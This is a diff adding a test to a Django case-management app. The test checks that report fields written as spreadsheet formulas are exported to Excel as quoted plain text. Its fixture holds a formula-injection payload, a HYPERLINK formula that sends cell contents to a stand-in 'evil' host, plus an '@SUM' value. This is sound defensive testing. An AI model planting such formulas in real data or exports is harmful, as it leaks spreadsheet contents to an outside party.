@@ -238,3 +238,20 @@ def test_the_export_of_a_street_holds_no_case_of_the_next_street(client, people,
     client.force_login(people["neighbour_supervisor"])
     rows = export_rows(client.get(EXPORT))
     assert len(rows) == 1 and rows[0][0] == "编号"
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_plain_text(
+    client, supervisor, people, categories
+):
+    # given a report whose description and address are spreadsheet formulas
+    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
+    case = reported(people, categories)
+    Case.objects.filter(pk=case.pk).update(description=formula, address="@SUM(1+1)")
+    # when
+    book = load_workbook(io.BytesIO(client.get(EXPORT).content))
+    row = next(r for r in book.active.iter_rows(min_row=2) if r[0].value == case.number)
+    address, description = row[8], row[9]
+    # then Excel stores text, shown as typed, that stays text when the cell is edited
+    assert description.data_type == "s" and description.value == formula
+    assert address.data_type == "s" and address.value == "@SUM(1+1)"
+    assert description.quotePrefix and address.quotePrefix
